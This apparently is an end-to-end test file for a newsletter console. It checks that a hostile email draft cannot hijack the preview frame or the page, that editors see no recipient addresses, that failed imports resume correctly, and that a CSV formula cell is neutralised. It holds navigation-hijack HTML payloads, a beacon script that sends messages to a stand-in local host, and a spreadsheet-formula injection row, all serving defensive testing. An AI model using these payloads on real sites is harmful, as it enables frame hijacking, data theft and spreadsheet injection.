/**
 * The console against what a draft, a role or a failing network can do, in Chromium against
 * the local stack (issue 47): a hostile draft's preview cannot take the console or the frame
 * elsewhere, and a draft never reaches a page the frame was taken to ([console.preview]); an
 * editor's report shows counts and rates, never the recipients' addresses ([report.editor]);
 * an import whose parts fail (a 503 under way, a 413, a dropped connection) says what is in,
 * what is not, and resumes to the end ([console.import]); another service's export is previewed,
 * writing nothing, before it is imported ([import.preview]). axe-core checks the pages shown.
 */
import { once } from 'node:events';
import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import type { Browser, BrowserContext, Frame, Page, Route } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type CampaignOperator, campaignOperator } from '../e2e/support/campaign-operator.ts';
import { type LocalService, startLocalService } from '../e2e/support/local-service.ts';
import { personIdToken } from '../support/console-admin.ts';
import { launchChromium } from './support/chromium.ts';
import {
  addPerson,
  expectAccessible,
  type NewPerson,
  openSection,
  signIn,
  soon,
} from './support/console.ts';

let service: LocalService;
let operator: CampaignOperator;
let browser: Browser;
let context: BrowserContext;
let page: Page;
let editor: NewPerson;
let admin: NewPerson;
/** A site of someone else's, where images of a draft come from: what arrived there. */
let elsewhere: Server;
let elsewhereRoot = '';
const arrivals: string[] = [];
/**
 * Pages of the console's own origin a draft could send the frame to (the console's policy
 * lets the frame load nothing else), served by the test under `/elsewhere/`: what arrived.
 */
let sameOrigin = '';
const taken: string[] = [];

const SUBJECT = 'Abuse report issue';
const READERS = ['+abuse-one@example.net', '=abuse-two@example.net'];
let issueId = 0;

/** A page that reports every message posted to it, to the other site. */
const listeningPage = () => `<!DOCTYPE html><title>Elsewhere</title><h1>Elsewhere</h1>
<script>window.addEventListener('message', (event) => {
  new Image().src = '${elsewhereRoot}/got?' + encodeURIComponent(JSON.stringify(event.data).slice(0, 200));
});</script>`;

beforeAll(async () => {
  elsewhere = createServer((request, response) => {
    arrivals.push(request.url ?? '');
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    response.end('<h1>Somewhere else</h1>');
  });
  elsewhere.listen(0, '127.0.0.1');
  await once(elsewhere, 'listening');
  elsewhereRoot = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
  service = await startLocalService();
  operator = await campaignOperator(service);
  browser = await launchChromium();
  for (const reader of READERS) await operator.add(reader, [4]);
  issueId = await operator.createIssue(SUBJECT, [4]);
  await operator.cliOk('newsletters', 'send', String(issueId));
  await service.stack.settled();
  editor = await addPerson(service.stack, 'abuse-editor@example.org', 'editor');
  admin = await addPerson(service.stack, 'abuse-admin@example.org', 'admin');
  context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  page = await context.newPage();
  sameOrigin = `${new URL(service.stack.consoleUrl).origin}/elsewhere`;
  await page.route(`${sameOrigin}/**`, (route) => {
    const path = new URL(route.request().url()).pathname;
    taken.push(path);
    return route.fulfill({
      contentType: 'text/html; charset=utf-8',
      body: path === '/elsewhere/listening' ? listeningPage() : '<h1>Somewhere else</h1>',
    });
  });
  await page.goto(service.stack.consoleUrl);
  await signIn(page, editor.email, editor.temporaryPassword, 'Abuse-Editor-2026!');
});

afterAll(async () => {
  await context?.close();
  await browser?.close();
  await operator?.close();
  await service?.stop();
  elsewhere?.close();
});

/** The preview frame the page shows now. */
function previewFrame(): Frame {
  const frame = page.frames().find((each) => each.url().endsWith('/preview.html'));
  if (!frame) throw new Error('no preview frame');
  return frame;
}

describe('[console.preview] a hostile draft in the preview', () => {
  const preview = () => page.frameLocator('iframe.preview-frame');
  const html = () => page.getByLabel('HTML', { exact: true });

  it('still previews a normal mail: its style block, its links and images', async () => {
    await openSection(page, 'Issues');
    await page.getByRole('link', { name: 'Write a new issue' }).click();
    await page.getByRole('heading', { level: 1, name: 'New issue' }).waitFor();
    await html().fill(
      `<!DOCTYPE html><html><head><style>h1 { color: rgb(0, 90, 40) }</style></head><body>
<h1>Normal mail</h1><p><a id="story" href="${elsewhereRoot}/story">Read on</a></p>
<p><img alt="Logo" src="${elsewhereRoot}/logo.png" width="10" height="10"></p></body></html>`,
    );
    await soon(() => preview().locator('h1').textContent()).toBe('Normal mail');
    expect(
      await previewFrame().evaluate('getComputedStyle(document.querySelector("h1")).color'),
    ).toBe('rgb(0, 90, 40)');
    expect(await preview().locator('#story').getAttribute('href')).toBe(`${elsewhereRoot}/story`);
    await soon(() => arrivals.includes('/logo.png')).toBe(true);
    await expectAccessible(page, 'the issue editor with a preview');
  });

  it('cannot take the frame or the console elsewhere: refresh, base, form, links, scripts', async () => {
    const editorUrl = page.url();
    const navigations: string[] = [];
    page.on('framenavigated', (frame) => navigations.push(frame.url()));
    // Each way points at a page of the console's own origin, which its policy lets a frame load.
    await html().fill(
      `<!DOCTYPE html><html><head>
<meta http-equiv="refresh" content="0;url=${sameOrigin}/refresh">
<base href="${sameOrigin}/base/"></head><body>
<h1>Hostile draft</h1>
<a id="top" target="_top" href="${sameOrigin}/top">Top</a>
<a id="self" href="${sameOrigin}/self">Here</a>
<a id="relative" href="relative">Relative</a>
<form action="${sameOrigin}/form" method="post"><button id="send" formaction="${sameOrigin}/formaction">Send</button></form>
<svg width="80" height="30"><a id="svg" href="${sameOrigin}/svg"><text y="20">SVG link</text></a></svg>
<script>top.location = '${sameOrigin}/script'</script>
<img alt="" src="${elsewhereRoot}/pixel.png" onerror="top.location = '${sameOrigin}/onerror'">
</body></html>`,
    );
    await soon(() => preview().locator('h1').textContent()).toBe('Hostile draft');
    await soon(() => arrivals.includes('/pixel.png')).toBe(true);
    for (const id of ['#top', '#self', '#relative', '#send', '#svg']) {
      await preview().locator(id).click();
    }
    // A later draft still arrives, after any navigation those could have started.
    await html().fill('<h1>Later draft</h1>');
    await soon(() => preview().locator('h1').textContent()).toBe('Later draft');

    expect(page.url()).toBe(editorUrl);
    expect(previewFrame().url()).toMatch(/\/preview\.html$/);
    expect(navigations).toEqual([]);
    expect(taken).toEqual([]);
  });

  it('sends no draft to a page the frame was taken to, and previews in a new frame', async () => {
    // However it happened, the frame now holds another page of the origin, which listens.
    await previewFrame().evaluate(
      `setTimeout(() => { location.href = '${sameOrigin}/listening' }, 0)`,
    );
    await soon(() => taken.includes('/elsewhere/listening')).toBe(true);
    await html().fill('<h1>Secret draft</h1>');
    await soon(() => preview().locator('h1').textContent()).toBe('Secret draft');
    expect(previewFrame().url()).toMatch(/\/preview\.html$/);
    expect(arrivals.filter((path) => path.startsWith('/got'))).toEqual([]);
  });
});

describe('[report.editor] an editor’s report', () => {
  it('shows the counts and rates, and no way to the recipients’ addresses', async () => {
    await openSection(page, 'Issues');
    await page.getByRole('link', { name: SUBJECT }).click();
    await page.getByRole('heading', { level: 1, name: SUBJECT }).waitFor();
    await soon(() => page.locator('dd[data-count="sent"]').textContent()).toBe('2');
    expect(await page.getByRole('button', { name: /recipients as CSV/ }).count()).toBe(0);
    await page.getByText(/one row per recipient, is for admins/).waitFor();
    expect(await page.locator('main').textContent()).not.toContain('@example.net');
    await expectAccessible(page, 'the report as an editor sees it');
  });

  it('is refused the CSV by the API, which answers the JSON without an address', async () => {
    const token = await personIdToken(
      service.stack,
      'abuse-api-editor@example.org',
      'Abuse-Api-2026!',
      'editor',
    );
    const path = `${service.apiRoot.replace(/\/v1$/, '/v2')}/issues/${issueId}/report`;
    const ask = (accept: string) =>
      service.request('GET', path, {
        headers: { Authorization: `Bearer ${token}`, Accept: accept },
      });
    const csv = await ask('text/csv');
    expect(csv.status).toBe(403);
    expect((csv.json as { code: string }).code).toBe('forbidden');
    const json = await ask('application/json');
    expect(json.status).toBe(200);
    expect(json.text).not.toContain('@example.net');
  });
});

describe('[console.import] an import whose parts fail', () => {
  /** 1,300 readers and one row the API refuses, whose cell a spreadsheet would run. */
  const ROWS = Array.from({ length: 1300 }, (_, n) => `import-${n + 1}@example.net,Reader,4,C`);
  const FILE = `email,name,lists,status\n${[...ROWS, '=1+1,Bad,4,C'].join('\n')}\n`;
  /** What each call to the import gets from the network in turn. */
  const calls: string[] = [];
  /** The service's own answers to the parts the network passed on before failing them. */
  const forwarded: string[] = [];

  /** The network between the console and the API, failing the first three parts it carries. */
  async function failing(route: Route): Promise<void> {
    const request = route.request();
    if (request.method() !== 'POST') return route.continue();
    const [header, ...records] = (request.postData() ?? '').trim().split('\n');
    calls.push(`${records.length} rows from ${records[0]?.split(',')[0]}`);
    if (calls.length === 1) {
      // The service writes 400 rows, then DynamoDB fails: a 503 saying what it wrote.
      const written = await route.fetch({
        postData: `${[header, ...records.slice(0, 400)].join('\n')}\n`,
      });
      forwarded.push(`${written.status()} ${await written.text()}`);
      const body = (await written.json()) as { imported: number; existing: number };
      const unprocessed = records.slice(400).map((_, n) => 402 + n);
      return route.fulfill({
        status: 503,
        contentType: 'application/json',
        body: JSON.stringify({
          code: 'unavailable',
          message: `The service became unavailable during this part: ${body.imported} rows were imported and ${unprocessed.length} were not.`,
          data: { status: 503, import: { ...body, rejected: [], unprocessed } },
        }),
      });
    }
    // A proxy on the way takes no body this large.
    if (calls.length === 2)
      return route.fulfill({
        status: 413,
        contentType: 'application/json',
        body: '{"message":"Request Entity Too Large"}',
      });
    if (calls.length === 3) {
      // The part is written, and the connection drops before the answer.
      const written = await route.fetch();
      forwarded.push(`${written.status()} ${await written.text()}`);
      return route.abort('connectionreset');
    }
    return route.continue();
  }

  it('keeps what the parts before wrote, says what is not in, and resumes to the end', {
    timeout: 360_000,
  }, async () => {
    await page.getByRole('button', { name: 'Sign out' }).click();
    await signIn(page, admin.email, admin.temporaryPassword, 'Abuse-Admin-2026!');
    await page.route('**/subscribers/import*', failing);
    await openSection(page, 'Subscribers');
    await page.getByRole('link', { name: 'Import a CSV' }).click();
    await page.getByRole('heading', { level: 1, name: 'Import subscribers' }).waitFor();
    await page.getByText(/an address already subscribed is left exactly as it is/).waitFor();
    await page
      .getByLabel('CSV file')
      .setInputFiles({ name: 'readers.csv', mimeType: 'text/csv', buffer: Buffer.from(FILE) });
    await page.getByRole('button', { name: 'Import' }).click();

    // A 503 under way: what it wrote is kept, the rest is named.
    const stopped = page.getByRole('heading', { name: 'The import stopped' });
    await stopped.waitFor({ timeout: 90_000 });
    expect(forwarded).toHaveLength(1);
    expect(forwarded[0]).toMatch(/^200 \{"imported":400,/);
    const text = (what: string) => page.locator(`[data-import="${what}"]`).textContent();
    expect(await text('done')).toBe(
      'Done: 400 of 1301 rows: imported 400, already subscribed 0 (left as they were), rejected 0.',
    );
    expect(await text('pending')).toBe('Not in yet: 901 rows (lines 402–1302).');
    expect(await text('failed')).toMatch(/^Lines 2–1001 were sent when the service failed/);
    await page
      .getByRole('alert')
      .getByText(/400 rows were imported/)
      .waitFor();
    await expectAccessible(page, 'an import stopped by a 503');
    // A 413: nothing of the part is in; the resume goes on in smaller parts.
    await page.getByRole('button', { name: 'Resume the import' }).click();
    await soon(() => text('failed')).toBe(
      'Lines 402–1302 were refused as a whole: nothing of them is in.',
    );
    expect(await text('done')).toMatch(/^Done: 400 of 1301 rows/);
    await page.getByText(/in parts of 450 rows/).waitFor();

    // A dropped connection: whether the part is in is not known, so it goes again.
    await page.getByRole('button', { name: 'Resume the import' }).click();
    await soon(() => text('failed'), 90_000).toMatch(
      /^Lines 402–851 were sent, but no whole answer came back/,
    );
    expect(await text('pending')).toBe('Not in yet: 901 rows (lines 402–1302).');
    expect(forwarded[1]).toMatch(/^200 \{"imported":450,/);

    await page.getByRole('button', { name: 'Resume the import' }).click();
    // Four parts, 1,351 rows, through the local stack: a bound, not a timing.
    await page
      .getByText('Imported 850, already subscribed 450 (left as they were), rejected 1.')
      .waitFor({ timeout: 150_000 });
    expect(calls).toEqual([
      '1000 rows from import-1@example.net',
      '901 rows from import-401@example.net',
      '450 rows from import-401@example.net',
      '450 rows from import-401@example.net',
      '450 rows from import-851@example.net',
      '1 rows from =1+1',
    ]);
    // Every reader is in, once.
    const readers = (await operator.confirmedOn([4])).filter((email) =>
      email.startsWith('import-'),
    );
    expect(readers).toHaveLength(1300);
    expect(new Set(readers).size).toBe(1300);
    await expectAccessible(page, 'the import once resumed to the end');

    // The rows not imported download with the refused cell made harmless.
    const [refused] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download the rows not imported' }).click(),
    ]);
    const rows = parse(await readFile(await refused.path(), 'utf8')) as string[][];
    expect(rows[0]).toEqual(['line', 'reason', 'row']);
    expect(rows.find((row) => row[0] === '1302')?.[2]).toBe("'=1+1,Bad,4,C");
    await page.unroute('**/subscribers/import*');
  });
});

// After the import above, which signed the admin in: run the two together.
describe('[import.preview] another service’s export, previewed before it is imported', () => {
  const FIXTURES = join(import.meta.dirname, '../fixtures/imports');
  const LEFT = ['mc.left@example.com', 'mc.gone@example.com'];

  it('shows what each column becomes and the rows by status, writes nothing, then imports them unsubscribed', {
    timeout: 120_000,
  }, async () => {
    await openSection(page, 'Subscribers');
    await page.getByRole('link', { name: 'Import a CSV' }).click();
    await page.getByRole('heading', { level: 1, name: 'Import subscribers' }).waitFor();
    await page.getByLabel('Whose export').selectOption('mailchimp');
    await page
      .getByLabel('CSV file')
      .setInputFiles(join(FIXTURES, 'mailchimp-unsubscribed_members_export_1a2b3c.csv'));
    await page.getByRole('button', { name: 'Preview' }).click();

    await page.getByRole('heading', { name: 'Preview: nothing was written' }).waitFor();
    expect(await page.locator('[data-preview="counts"]').textContent()).toBe(
      '2 rows: would write 2 U; 0 refused.',
    );
    await page.getByRole('cell', { name: 'status: every row U' }).waitFor();
    await expectAccessible(page, 'an import preview');
    for (const email of LEFT) expect(await operator.statusOf(email)).toBeUndefined();

    await page.getByRole('button', { name: 'Import', exact: true }).click();
    await page
      .getByText('Imported 2, already subscribed 0 (left as they were), rejected 0.')
      .waitFor({ timeout: 90_000 });
    for (const email of LEFT) expect(await operator.statusOf(email)).toBe('U');
  });
});
